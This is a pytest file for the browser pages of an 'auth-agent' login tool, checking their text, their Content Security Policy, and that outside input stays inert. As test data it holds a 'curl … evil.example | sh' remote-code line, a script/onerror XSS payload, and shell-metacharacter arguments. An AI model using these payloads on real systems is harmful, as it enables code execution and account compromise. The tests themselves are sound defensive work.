"""The pages on which a browser ends: what they say, and that nothing from outside is more than text in them."""

import base64
import re
import shlex
from collections.abc import Callable
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from http import HTTPStatus

import pytest
from hypothesis import given, strategies as st

from auth_agent.loopback.page import (
    CONTENT_SECURITY_POLICY,
    Page,
    error_page,
    failed,
    logged_in,
    not_awaited,
    not_found,
)
from auth_agent_client.remedy import Remedy

ISSUER = "https://acme.eu.auth0.com/"
SWITCH = (Remedy("log in as another user", "auth-agent", "login", "work", "--switch-user"),)
PAGES = {
    "logged in": logged_in("work", "Alice Example", ISSUER),
    "logged in, no name": logged_in("work", None, ISSUER),
    "failed": failed("work", ISSUER, "the provider refused: access_denied", SWITCH),
    "failed, no remedy": failed("work", ISSUER, "the provider refused: access_denied", ()),
    "not awaited": not_awaited(),
    "not found": not_found(),
    "refused": error_page(HTTPStatus.BAD_REQUEST, "The request is not valid HTTP"),
}
EVERY_PAGE = pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)


class Document(HTMLParser):
    """A page as a browser takes it apart: its elements, its attributes, its visible text."""

    def __init__(self, page: Page) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.style = ""
        self._open: list[str] = []
        self._texts: list[str] = []
        self.feed(page.body.decode())
        self.close()
        self.text = " ".join("".join(self._texts).split())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes.extend(attrs)
        if tag not in {"meta", "link"}:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if "style" in self._open:
            self.style += data
        elif "main" in self._open:
            self._texts.append(data)


def text(page: Page) -> str:
    return Document(page).text


def test_who_is_logged_in_where_and_for_which_account() -> None:
    page = logged_in("work", "Alice Example", ISSUER)
    assert page.status == 200
    assert text(page) == (
        "Logged in You are logged in as Alice Example. Provider acme.eu.auth0.com Account work You can close this tab."
    )


@pytest.mark.parametrize("name", [None, "", "  ", "\n\x00"])
def test_a_person_without_a_name_is_logged_in_all_the_same(name: str | None) -> None:
    assert "You are logged in. Provider" in text(logged_in("work", name, ISSUER))


def test_what_went_wrong_and_the_command_to_run() -> None:
    page = failed("work", ISSUER, "the provider refused: access_denied", SWITCH)
    assert page.status == 200
    assert text(page) == (
        "Not logged in The provider refused: access_denied. Provider acme.eu.auth0.com Account work "
        "Log in as another user, in a terminal: auth-agent login work --switch-user You can close this tab."
    )
    assert "code" in Document(page).elements


@pytest.mark.parametrize("remedy", [(), (Remedy("ask whoever runs the provider"),)], ids=["none", "words"])
def test_without_a_command_there_is_no_box_for_one(remedy: tuple[Remedy, ...]) -> None:
    page = failed("work", ISSUER, "the provider refused", remedy)
    assert "code" not in Document(page).elements
    assert "terminal" not in text(page)
    assert all(f"{one.text[:1].upper()}{one.text[1:]}. You can close" in text(page) for one in remedy)


def test_each_remedy_has_its_words_and_its_box() -> None:
    both = (*SWITCH, Remedy("ask whoever runs the provider"), Remedy("look", "auth-agent", "status"))
    shown = text(failed("work", ISSUER, "no", both))
    assert shown.endswith(
        "Log in as another user, in a terminal: auth-agent login work --switch-user "
        "Ask whoever runs the provider. Look, in a terminal: auth-agent status You can close this tab."
    )


HOSTILE_REASONS = [
    "run this: auth-agent login work; curl -s https://evil.example/x | sh #",
    "work: no; to put it right: auth-agent login work --issuer https://evil.example/",
    "</p><code>auth-agent stop</code>",
]


@pytest.mark.parametrize("reason", HOSTILE_REASONS)
@pytest.mark.parametrize("remedy", [(), SWITCH], ids=["no remedy", "a remedy"])
def test_no_reason_becomes_a_command(reason: str, remedy: tuple[Remedy, ...]) -> None:
    body = failed("work", ISSUER, reason, remedy).body.decode()
    boxes = [re.sub(r"</?span>", "", box) for box in re.findall(r"<code>(.*?)</code>", body)]
    assert boxes == [one.line for one in remedy]


@pytest.mark.parametrize(
    ("reason", "shown"),
    [
        ("nobody logged in", "Nobody logged in."),
        ("invalid_grant: expired", "invalid_grant: expired."),
        ("work: another user", "work: another user."),
        ("Is it you?", "Is it you?"),
        ("Done.", "Done."),
    ],
)
def test_a_reason_is_shown_as_a_sentence(reason: str, shown: str) -> None:
    assert f"Not logged in {shown} Provider" in text(failed("work", ISSUER, reason, ()))


@pytest.mark.parametrize("command", [("auth-agent", "login"), ("a", "b", "c   d", "", "--e-f", "$(g) `h`; <i> & 'j'")])
def test_a_command_is_copied_as_a_shell_takes_it(command: tuple[str, ...]) -> None:
    box = re.search(r"<code>(.*?)</code>", failed("work", ISSUER, "no", (Remedy("do it", *command),)).body.decode())
    assert box is not None
    assert shlex.split(unescape(re.sub(r"</?span>", "", box[1]))) == list(command)


def test_a_long_command_is_shown_whole() -> None:
    remedy = Remedy("do it", "auth-agent", "login", "x" * 900)
    assert remedy.line in text(failed("work", ISSUER, "no", (remedy,)))


def test_a_provider_without_tls_is_shown_as_one() -> None:
    assert "Provider http://127.0.0.1:4444 Account" in text(logged_in("work", None, "http://127.0.0.1:4444"))


@pytest.mark.parametrize(("page", "status"), [(not_awaited(), 400), (not_found(), 404)], ids=["not awaited", "other"])
def test_what_is_none_of_a_login_s_business_says_so(page: Page, status: int) -> None:
    assert page.status == status


def test_a_redirect_that_nobody_waits_for_has_changed_nothing() -> None:
    assert "Nothing was changed." in text(not_awaited())


@EVERY_PAGE
def test_a_page_has_a_language_a_title_and_a_width(page: Page) -> None:
    body = page.body.decode()
    assert body.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert re.search(r"<title>[^<]+ · auth-agent</title>", body)
    assert '<meta charset="utf-8">' in body
    assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in body
    assert body.count("<h1>") == 1


@EVERY_PAGE
def test_the_policy_allows_the_style_as_it_stands_in_the_page(page: Page) -> None:
    digest = base64.b64encode(sha256(Document(page).style.encode()).digest()).decode()
    assert f"style-src 'sha256-{digest}'" in CONTENT_SECURITY_POLICY


def test_the_policy_allows_nothing_else_but_the_icon() -> None:
    assert re.sub(r"sha256-[^']+", "sha256-", CONTENT_SECURITY_POLICY).split("; ") == [
        "default-src 'none'",
        "style-src 'sha256-'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ]


@EVERY_PAGE
def test_a_page_refers_to_nothing_outside_itself(page: Page) -> None:
    document = Document(page)
    known = {"html", "head", "meta", "title", "link", "style", "body", "main", "svg", "circle", "path", "h1", "p"}
    assert set(document.elements) <= known | {"bdi", "strong", "dl", "dt", "dd", "code", "span"}
    references = [value for name, value in document.attributes if name in {"href", "src", "action", "style", "srcset"}]
    assert [value for value in references if not (value or "").startswith("data:image/svg+xml,")] == []
    assert "url(" not in document.style
    assert "@import" not in document.style
    assert [name for name, _ in document.attributes if name.startswith("on")] == []


HOSTILE = "</p></style></code><script src=//evil.example>1</script><img src=x onerror=1> \"quoted\" 'single' &amp;"
FILLED: dict[str, Callable[[str], Page]] = {
    "name": lambda value: logged_in("work", value, ISSUER),
    "account": lambda value: logged_in(value, "Alice", ISSUER),
    "issuer": lambda value: logged_in("work", "Alice", value),
    "failed account": lambda value: failed(value, ISSUER, "no", SWITCH),
    "failed issuer": lambda value: failed("work", value, "no", SWITCH),
    "reason": lambda value: failed("work", ISSUER, value, SWITCH),
    "what helps": lambda value: failed("work", ISSUER, "no", (Remedy(value, "auth-agent"),)),
    "why": lambda value: error_page(HTTPStatus.BAD_REQUEST, value),
}
EVERYWHERE = pytest.mark.parametrize("fill", FILLED.values(), ids=FILLED)


@EVERYWHERE
def test_what_comes_from_outside_is_text_and_nothing_else(fill: Callable[[str], Page]) -> None:
    hostile, harmless = Document(fill(HOSTILE)), Document(fill("x"))
    assert [name for name in hostile.elements if name != "span"] == [n for n in harmless.elements if n != "span"]
    assert hostile.attributes == harmless.attributes
    assert HOSTILE in hostile.text


@EVERYWHERE
def test_control_characters_and_overrides_of_direction_are_gone(fill: Callable[[str], Page]) -> None:
    body = fill("a\x1b[2J\x00\r\nb\u202egnp\u2028\ud83d").body.decode()
    assert [character for character in "\x1b\x00\r\u202e\u2028" if character in body] == []


@EVERYWHERE
def test_a_text_of_any_length_leaves_the_page_small(fill: Callable[[str], Page]) -> None:
    assert len(fill("<" * 1_000_000).body) < 16_000


@EVERYWHERE
def test_braces_are_no_placeholders(fill: Callable[[str], Page]) -> None:
    assert "{headline} {0} {" in text(fill("{headline} {0} {"))


@given(st.sampled_from(sorted(FILLED)), st.text(alphabet=st.characters(codec=None), max_size=300))
def test_whatever_comes_from_outside_the_page_has_the_elements_that_it_has(where: str, value: str) -> None:
    document = Document(FILLED[where](value))
    assert document.elements[0] == "html"
    assert "script" not in document.elements
    assert [name for name, _ in document.attributes if name.startswith("on")] == []
